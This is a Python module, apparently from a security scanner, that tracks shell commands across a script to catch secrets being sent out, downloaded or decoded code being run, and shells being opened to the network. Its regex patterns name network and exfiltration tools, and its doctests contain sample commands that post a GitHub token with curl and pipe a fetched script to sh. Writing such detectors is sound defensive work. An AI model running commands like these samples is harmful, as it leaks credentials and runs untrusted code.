"""What a script of many commands does: secrets and fetched programs, followed from line to line.

A command alone is judged by `commands`. Here stands what only the order of commands tells: a
secret that is kept in a variable or a file, packed, and sent by a later command; a name that is
put together from variables; what is decoded into a variable and then started.
"""

from __future__ import annotations

import re

from modelwarden.artifacts.known.attacks import FETCHED, STAYS
from modelwarden.artifacts.known.commands import (
    RUNS_LATER,
    attack_in,
    downloads_in,
    starts_download,
)
from modelwarden.artifacts.known.pipelines import (
    LONGEST,
    Stage,
    Values,
    pipelines,
    spelled,
    substituted,
)
from modelwarden.artifacts.known.publishers import only_known
from modelwarden.artifacts.known.secret_sources import (
    CREDENTIALS,
    ENCODES,
    ENVIRONMENT,
    SOURCES,
    VARIABLES,
    given_to,
    kept_in,
    secret_in,
)
from modelwarden.core.patterns import lazily

_DECODED = "decoded"
_REMOTE = "fetched"
_CODE = "the repository"
_GIVEN = "given"  # a secret of the build server, under a name that the settings tell
_RUNS = {_REMOTE: FETCHED, _DECODED: "runs what it has just decoded"}
_SECRETS = frozenset((CREDENTIALS, ENVIRONMENT))
_PACKED = (".gz", ".xz", ".bz2", ".zst", ".enc", ".b64", ".gpg")
_KEPT = 200  # names that are followed
_REMEMBERED = 8000  # letters of what was downloaded
_BEFORE = (
    r"^[({\s]*(?:(?:sudo|exec|nohup|time|env|command|busybox|setsid)\s+(?:-\w+\s+){0,3}"
    r"|\w{1,40}=\S{0,200}\s+){0,4}(?:\S{0,100}/)?"
)
_WORD_BEFORE = lazily(r"(?:(?:do|then|else|if|while|until|!|\{)\s+){1,4}")
_END = lazily(r"(?:^|[;\s])\}\s{0,9}(?:$|[;|&>)])")
_FUNCTION = lazily(r"(?:function\s+)?([A-Za-z_][\w-]{0,60})\s*\(\)\s*\{?")
_SENDS = lazily(
    _BEFORE
    + r"(?:curl|wget|nc|ncat|netcat|telnet|socat|scp|rsync|sftp|t?ftp|ssh|https?|xh|mail|sendmail"
    r"|aws\s+s3\s+(?:cp|sync|mv)|gsutil\s+(?:-m\s+)?(?:cp|rsync)|gcloud\s+storage\s+cp|rclone\s+\w+"
    r"|az\s+storage\s+blob\s+upload|azcopy\s+copy|s3cmd\s+put|mc\s+cp|dig|nslookup|host|ping|drill"
    r"|git\s+push|gh\s+gist\s+create|openssl\s+s_client|websocat|iwr|irm|invoke-\w+|curl\.exe)\b(?!-)"
    r"|>\s*/dev/(?:tcp|udp)/|\bxargs\s[^|]{0,200}\b(?:curl|wget|nc|dig|nslookup|host|ping)\b",
    re.IGNORECASE,
)
_COPIES = lazily(_BEFORE + r"(?:scp|rsync|aws|gsutil|gcloud|rclone|azcopy|mc|sftp)\s")
_REMOTE_PLACE = lazily(r"^(?:[\w.@$%{}\[\]-]+:(?!/?$)|[a-z0-9]+://|[\w.@$%{}-]+:$)", re.IGNORECASE)
_ASIDE = lazily(  # what is no body: headers, logins, keys, and where the answer is kept
    r"(?:^|\s)(?:-\w*[HuoKi]|-O|--(?:header|user|netrc-file|cert|key|cacert|output|output-document"
    r"|cookie|cookie-jar|config|proxy-\w+|oauth2-bearer))(?:[ =]|(?=\S))"
    r"(?:'[^']{0,2000}'|\"(?:[^\"\\]|\\.){0,2000}\"|\S{1,2000})"
    r"|\s-\w*e\s*(?:'ssh[^']{0,500}'|\"ssh[^\"]{0,500}\")"
    r"|>>?\s*\S{1,300}"
)
_FETCHER = lazily(
    _BEFORE + r"(?:(?:curl|wget|aria2c|axel|lynx|w3m|lwp-(?:download|request)|fetch|nc|ncat|netcat"
    r"|telnet|openssl\s+s_client|https?|xh|gcloud\s+storage\s+cat|az\s+storage\s+blob\s+download"
    r"|rclone\s+cat|smbclient|dig|drill|host\s+-t|nslookup\s+-\w{0,10}(?:type|q)|curl\.exe|iwr|irm"
    r"|t?ftp|gsutil\s+(?:-\w+\s+){0,3}cat)\b|ssh\s+(?!-\w*[NL])"
    r"|(?:aws\s+s3|gsutil(?:\s+-\w+){0,3})\s+cp\s[^|]{1,300}\s-(?=\s|$))",
    re.IGNORECASE,
)
_CASE = r"\[?(?:a-z|A-Z|:(?:lower|upper|alpha):)[^A-Za-z\s]{0,9}"  # of `tr`, without its quotes
_DECODER = lazily(
    _BEFORE + r"(?:base(?:64|32|58)\s+(?:-\w*[dD]|--decode)|basenc\s[^|]{0,100}(?:-d\b|--decode)"
    r"|xxd\s+(?:-\w+\s+){0,3}-\w*r|openssl\s+(?:enc|base64|aes)[^|]{0,300}\s-\w*d\b"
    r"|gpg\d?\s[^|]{0,200}-\w*d\b|rev\b|uudecode\b"
    r"|(?:gunzip|zcat|bzcat|bunzip2|xzcat|unxz|zstdcat|lzcat|(?:brotli|gzip|bzip2|xz|zstd)\s+-\w*d\w*)\b"
    # Letters for letters, but not small for capital ones, nor signs for signs.
    r"|tr\s+(?!-\w*d|\\)(?:-\w+\s+)?"
    rf"(?!{_CASE}\s+{_CASE}\s*$)(?=\S*[A-Za-z]\S*[A-Za-z])[\w!-~]{{2,200}}\s+"
    r"(?=\S*[A-Za-z]\S*[A-Za-z])[\w!-~]{2,200}\s*$)",
    re.DOTALL,
)
_PRINTS = lazily(_BEFORE + r"(?:printf|echo\s+(?:-\w+\s+){0,3}-\w*e)\b")
_CODED = lazily(r"(?:\\(?:x[0-9a-fA-F]{2}|[0-7]{3}|u[0-9a-fA-F]{4})){3}")
_COPY = lazily(_BEFORE + r"(?:cp|mv|ln|install|rsync|tar|zip|7za?|gzip|openssl|gpg|age|split)\s")
_SHELL = lazily(
    _BEFORE
    + r"(?:(?:ba|z|da|k|a|fi|t?c)?sh\b(?!\s+-\w*c\b)(?!\s+(?:-\w+\s+){0,3}[\w./$~-]{0,200}\.\w)"
    r"|xargs\s[^|]{0,200}\b(?:ba|z|da)?sh\s+-c\b|(?:source|\.)\s+/dev/(?:stdin|fd/0)"
    r"|(?:python[\d.]*|perl|ruby|node|php|lua)\s*(?:-\s*)?$|(?:parallel|at\s+now)\b)"
)
# What is run stands right behind: a text that only has it in some place is data to a program.
_RUNS_TEXT = lazily(
    _BEFORE + r"(?:(?:(?:ba|z|da|k|a)?sh|python[\d.]*)\s+(?:-\w+\s+){0,3}-\w*c|eval|source|\."
    r"|(?:perl|ruby|node|php)\s+-\w*[er])\s+[\"']?(?:\$\{?([A-Za-z_]\w{0,40})|<?\$?\(|`)"
    r"|<<<\s*[\"']?(?:\$\{?([A-Za-z_]\w{0,40})|\$\(|`)"
)
_RAW = lazily(_BEFORE + r"(?:nc|ncat|netcat|telnet|socat|openssl\s+s_client|websocat)\b")
_OPEN_SHELL = lazily(_BEFORE + r"(?:ba|z|da|k|a|c)?sh\b(?!\s+-\w*c)(?!\s+[\w./$~-]{0,200}\w\.\w)")
_SETS = lazily(
    r"^(?:export\s+|local\s+|readonly\s+|declare\s+(?:-\w+\s+)?)?([A-Za-z_]\w{0,40})\+?="
    r"[\"']?[^$`\"']{0,100}(?:\$\(|`|\$\{?\w|<\()"
)
_IS_ADDRESS = lazily(r"[\w ]{1,80}=[\"']?https?://")  # of something that is asked for by name
_READS_INTO = lazily(
    r"\b(?:read\s+(?:-\w+\s+){0,3}|for\s+)([A-Za-z_]\w{0,40})(?=\s+in\s|\s*$|\s*;|\s*<)"
)
_WRITTEN = lazily(
    r"(?<![0-9&])>>?\|?\s*([^\s;|&<>()]{1,300})|\btee\s+(?:-\w+\s+){0,3}([^\s;|&<>-][^\s;|&<>]{0,300})"
)
_NAME = lazily(r"\$\{?([A-Za-z_]\w{0,40})")
_WORD = lazily(r"(?<![\w/:.])@?([\w./~$@{}*-]{2,300})(?!\w{0,20}://)")
_HOST = lazily(
    r"(?i)\b(?:https?|ftp|sftp|wss?)://(?:[^\s/@\"']{0,200}@)?([\w.-]{1,200})"
    r"|@([\w.-]{3,200}):|/dev/(?:tcp|udp)/([\w.-]{1,200})"
)
# Where a token of theirs is asked for, or given back; and the machine itself.
_OWN = lazily(
    r"(?i)localhost|127\.[\d.]+|0\.0\.0\.0|host\.docker\.internal|169\.254\.169\.254"
    r"|(?:[\w-]+\.){0,5}(?:googleapis\.com|google\.internal|amazonaws\.com|azure\.com|windows\.net"
    r"|microsoftonline\.com|github\.com|gitlab\.com|huggingface\.co|hf\.co|pypi\.org|npmjs\.org"
    r"|docker\.(?:io|com)|bitbucket\.org|openai\.com|anthropic\.com|wandb\.ai|codecov\.io"
    r"|sonarcloud\.io|circleci\.com|azurecr\.io|pkg\.dev|gcr\.io)"
)
_CLEAR = lazily(
    r"(?i)\b(?:http|ftp)://(?:[^\s/@]{0,100}@)?(?!localhost|127\.|0\.0\.0\.0|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\."
    r"|169\.254\.|metadata|[\w-]+(?:[:/\s]|$)|[\w.-]+\.(?:local|internal|svc|lan|cluster)\b|\$)[\w-]+\."
    r"|\bhttps://(?!127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)\d{1,3}(?:\.\d{1,3}){3}\b"
)
_LIKE_SECRET = lazily(
    r"(?i)\$\{?\w{0,30}(?:token|secret|passw|private_key|ssh_key|api_?key|credential)"
)
# A shell that is given its commands as one text.
_WRAPPED = lazily(
    r"\b(?:ba|z|da|k|a)?sh\s+-\w{0,4}c\s+(?:'([^']{1,8000})'|\"((?:[^\"\\]|\\.){1,8000})\")"
)
_UNQUOTES = lazily(r"\\([\"\\$`])")
_ECHOES = lazily(_BEFORE + r"(?:echo|printf)\s")
_SERVES = lazily(_BEFORE + r"(?:ssh|scp|rsync|sftp)\b")  # as a repository is put on one's server
_ASKS_NAMES = lazily(_BEFORE + r"(?:dig|nslookup|host|ping|drill)\b")
_READ = lazily(
    r"\b(\w{1,60})\s*=[^\n]{0,100}(?:new\s+URL\([^)\n]{1,300}\)|\.toURL\(\))\s*\.\s*(?:text|getText)\b"
)
_EVALUATES = lazily(
    r"\b(?:evaluate|GroovyShell\(\)\.(?:evaluate|parse|run)|Eval\.me)\s*\(?\s*(\w{1,60})"
)
_API = lazily(r"/api/v4/|\$\{?(?:CI_(?:API|SERVER)|GITHUB_API_URL|ACTIONS_ID_TOKEN_REQUEST_URL)")
_LOGIN = lazily(r"://[^\s/]{0,200}\$[^\s/]{0,200}@|\b(?:git\s+push|oauth2?|token-login)\b")
_PUSH = lazily(r"\bgit\s+push\b")
_TELLS = lazily(
    r"\b(?:curl|wget|nc|ncat|netcat|telnet|socat|scp|rsync|s_client|gsutil|aws|rclone|dig|nslookup"
    r"|host|ping|git\s+push|base64|base32|xxd|eval|printf|openssl|ssh|ftp|gh|rev|tr|gpg|uudecode"
    r"|basenc|gunzip|[bx]?zcat|gzip|bzip2|xz|zstd)\b|/dev/(?:tcp|udp)/",
    re.IGNORECASE,
)


class Follower:
    """Takes the commands of one script in their order.

    >>> follower = Follower()
    >>> [follower.take(one) for one in ("T=$(gh auth token)", "curl -d t=$T http://a.invalid")]
    [None, 'sends credentials to the network']
    >>> follower = Follower()
    >>> [follower.take(one) for one in ("a=cu; b=rl", "$a$b http://a.invalid | sh")]
    [None, 'runs what it has just fetched']
    """

    __slots__ = ("_earlier", "_flow", "_read", "_values")

    def __init__(self) -> None:
        """Begin with nothing known."""
        self._earlier = self._read = ""
        self._flow = _Flow()
        self._values = Values()

    def give(self, name: str) -> None:
        """Take the name of a variable that holds a secret of the build server."""
        if len(self._flow.secret) < _KEPT:
            self._flow.secret.add(name)

    def take(self, command: str) -> str | None:
        """Say what a command does that no model needs, where what came before it tells."""
        given = command[:LONGEST]
        if ("=" in given or "ariable" in given) and (name := given_to(given)) is not None:
            self.give(name)
        made = spelled(self._values.put_in(given))
        what = self._flow.follow(made)
        if what is None and "-" in made and "sh" in made:
            for inner in _WRAPPED.finditer(made):
                plain = inner[1] or _UNQUOTES.sub(r"\1", inner[2])
                what = what or self._flow.follow(plain)
        if what is None and made != given:
            what = attack_in(made)
        if what is None and starts_download(self._earlier, made):
            what = "runs what a line before it has fetched"
        self._earlier = (self._earlier + downloads_in(made))[-_REMEMBERED:]
        self._values.take(made)
        return what or self._evaluated(given)

    def _evaluated(self, command: str) -> str | None:
        """Follow what a script of Groovy reads from an address to where it is evaluated."""
        if (found := _READ.search(command)) is not None:
            self._read = found[1]
        if self._read and (called := _EVALUATES.search(command)) and called[1] == self._read:
            return FETCHED
        return None


class _Flow:
    """The state of a script: what its variables, its files and the present folder hold."""

    __slots__ = ("files", "functions", "here", "inside", "names", "secret")

    def __init__(self) -> None:
        self.names: dict[str, str] = {}
        self.files: dict[str, str] = {}
        self.functions: dict[str, str] = {}
        self.secret: set[str] = set()
        self.here = self.inside = ""

    def follow(self, command: str) -> str | None:
        """Take one command; say what it does with what it was given."""
        known = self.names or self.files or self.functions or self.secret
        if (found := _FUNCTION.match(command)) is not None:
            self.inside = found[1]
            command = command[found.end() :].lstrip()
        if not known and not _TELLS.search(command) and secret_in(command) is None:
            if self.inside and _END.search(command):
                self.inside = ""
            return None
        told = None
        for pipeline in pipelines(command):
            told = self.pipeline(pipeline) or told
            for stage in pipeline if told is None else ():
                for inner in substituted(stage.text):
                    for one in pipelines(inner):
                        told = told or self.pipeline(one)
        return told

    def pipeline(self, stages: tuple[Stage, ...]) -> str | None:
        """Follow what is piped from one program to the next."""
        held: set[str] = set()
        told = None
        before: Stage | None = None
        for given_stage in stages:
            stage = _led(given_stage)
            bare = stage.bare
            if before is not None and _RAW.search(bare) and _OPEN_SHELL.search(before.bare):
                told = told or "opens a shell to the network"
            told = told or self.sent(stage, held)
            if told is None and _DECODED in held | self.brought(stage):
                told = _stays(bare)
            runs = held & _RUNS.keys() if held and _SHELL.search(bare) else self.run_text(stage)
            if runs:
                told = told or _run("|".join(one.bare for one in stages), runs)
            if self.secret and _GIVEN in held and ENCODES.search(bare):
                held.add(CREDENTIALS)
            held |= self.brought(stage)
            self.keep(stage, held)
            before = stage
            if bare.startswith("}"):
                self.inside = ""
            elif self.inside and held & _RUNS.keys():
                self.functions[self.inside] = min(held & _RUNS.keys())
        return told

    def sent(self, stage: Stage, held: set[str]) -> str | None:
        """Say what a program sends to the network: of what it is given, or what is piped to it."""
        bare = stage.bare
        if not _SENDS.search(bare) or not _uploads(bare):
            return None
        given = (held | self.given(stage)) & _SECRETS
        if given and (_PUSH.search(bare) or not _goes_home(bare)):
            return f"sends {min(given)} to the network"
        code = _CODE in held and not _SERVES.search(bare) and not _goes_home(bare)
        return f"sends {_CODE} to the network" if code else None

    def run_text(self, stage: Stage) -> set[str]:
        """Return what a shell is given as its text, by a variable or a command's output."""
        found = _RUNS_TEXT.search(stage.bare)
        if found is None:
            return set()
        if name := found[1] or found[2]:
            kinds = {self.names.get(name, "")}
        else:
            kinds = self.brought_by(next(iter(substituted(stage.text)), ""))
        return kinds & _RUNS.keys()

    def given(self, stage: Stage) -> set[str]:
        """Return what stands in the body of what a program sends."""
        clear = _in_clear(stage.bare)
        body = stage.text if clear else _ASIDE.sub(" ", stage.text)
        if stage.bare.partition(" ")[0].endswith("ssh"):
            body = body.partition("<")[2]  # its arguments are run elsewhere
        bare = body.replace('"', " ").replace("'", " ")
        found = self.held_by(bare)
        if (VARIABLES.search(bare) and not _LOGIN.search(stage.bare)) or (
            clear and _LIKE_SECRET.search(bare)
        ):
            found.add(CREDENTIALS)
        if (kind := kept_in(bare)) is not None:
            found.add(kind)
        found |= {kind for inner in substituted(body) if (kind := secret_in(inner)) is not None}
        if self.secret and self.tells(bare) and (clear or _ASKS_NAMES.search(stage.bare)):
            found.add(CREDENTIALS)
        if self.secret and any(self.tells(o) and ENCODES.search(o) for o in substituted(body)):
            found.add(CREDENTIALS)
        if self.here and _PUSH.search(bare):
            found.add(self.here)
        return found

    def tells(self, text: str) -> bool:
        """Tell whether a text names a variable that the build server filled with a secret."""
        return any(one[1] in self.secret for one in _NAME.finditer(text))

    def held_by(self, bare: str) -> set[str]:
        """Return what the variables and files hold that a text names."""
        found: set[str] = set()
        if self.names:
            found |= {self.names[o[1]] for o in _NAME.finditer(bare) if o[1] in self.names}
        if self.files:
            found |= {self.files[one] for one in _files_in(bare) if one in self.files}
        return found

    def brought(self, stage: Stage) -> set[str]:
        """Return what a program hands on."""
        bare = stage.bare
        found = self.held_by(bare)
        if (kind := secret_in(bare)) is not None:
            found.add(kind)
        if _FETCHER.search(bare):
            found.add(_REMOTE)
        if _ECHOES.search(bare) and VARIABLES.search(bare):
            found.add(CREDENTIALS)
        if SOURCES.search(bare):
            found.add(_CODE)
        if self.secret and self.tells(bare):
            found.add(_GIVEN)
        if self.functions and (kind := self.functions.get(bare.partition(" ")[0])):
            found.add(kind)
        if _DECODER.search(bare) or (_PRINTS.search(bare) and _CODED.search(stage.text)):
            found.add(_DECODED)
        return found

    def brought_by(self, command: str) -> set[str]:
        """Return what a command hands on, all its programs together."""
        found: set[str] = set()
        for pipeline in pipelines(command):
            for stage in pipeline:
                found |= self.brought(stage)
        return found

    def keep(self, stage: Stage, held: set[str]) -> None:
        """Remember under which names something is kept."""
        bare = stage.bare
        if (set_to := _SETS.match(bare)) is not None:
            kinds = self.held_by(bare.partition("=")[2])
            for inner in substituted(stage.text):
                kinds |= self.brought_by(inner)
            self.name(set_to[1], set() if _IS_ADDRESS.match(bare) else kinds)
        if bare.startswith("cd ") and self.files:
            self.here = next((self.files[o] for o in _files_in(bare) if o in self.files), "")
        if not held:
            return
        for found in _WRITTEN.finditer(bare):
            self.file(found[1] or found[2], held)
        for found in _READS_INTO.finditer(bare):
            self.name(found[1], held)
        if held & _SECRETS and _COPY.search(bare):
            for word in _files_in(bare)[:8]:
                self.file(word, held)

    def name(self, name: str, kinds: set[str]) -> None:
        """Keep what a variable holds, or that it holds nothing of interest."""
        if kinds and len(self.names) < _KEPT:
            self.names[name] = min(kinds)
        else:
            self.names.pop(name, None)

    def file(self, path: str, kinds: set[str]) -> None:
        """Keep what a file holds; downloads are followed by `commands`."""
        secrets = kinds & _SECRETS
        name = _base(path)
        if secrets and name and len(self.files) < _KEPT and not path.startswith("/dev/"):
            self.files[name] = min(secrets)


def _led(stage: Stage) -> Stage:
    """Return a program without the word of the shell before it."""
    found = _WORD_BEFORE.match(stage.bare)
    if found is None:
        return stage
    text = _WORD_BEFORE.match(stage.text)
    return Stage(stage.text[text.end() :] if text else stage.text, stage.bare[found.end() :])


def _run(pipeline: str, kinds: set[str]) -> str | None:
    kind = _DECODED if _DECODED in kinds else _REMOTE
    return None if kind == _REMOTE and only_known(pipeline) else _RUNS[kind]


def _stays(bare: str) -> str | None:
    """Say that something is written where Python, a shell or git runs it later."""
    written = (found[1] or found[2] for found in _WRITTEN.finditer(bare))
    return STAYS if any(RUNS_LATER.search(path) for path in written) else None


def _uploads(bare: str) -> bool:
    """Tell whether a program that copies both ways sends; others do."""
    if not _COPIES.search(bare):
        return True
    words = [word for word in bare.split() if not word.startswith("-")]
    return len(words) > 2 and any(_REMOTE_PLACE.match(word) for word in words[-1:])


def _in_clear(bare: str) -> bool:
    """Tell whether something goes to another network without TLS, or to a bare address."""
    return _CLEAR.search(bare) is not None


def _goes_home(bare: str) -> bool:
    """Tell whether all that is sent goes to who gave the secret, or to the machine itself."""
    if _API.search(bare):
        return True
    hosts = [one[1] or one[2] or one[3] for one in _HOST.finditer(bare)]
    return bool(hosts) and all(_OWN.fullmatch(host) for host in hosts)


def _files_in(bare: str) -> list[str]:
    return [name for found in _WORD.finditer(bare) if (name := _base(found[1]))]


def _base(path: str) -> str:
    name = path.rstrip("/").rpartition("/")[2]
    if name.endswith(_PACKED):
        name = name.rpartition(".")[0]
    return "" if name in (".", "..", "~", "*") else name
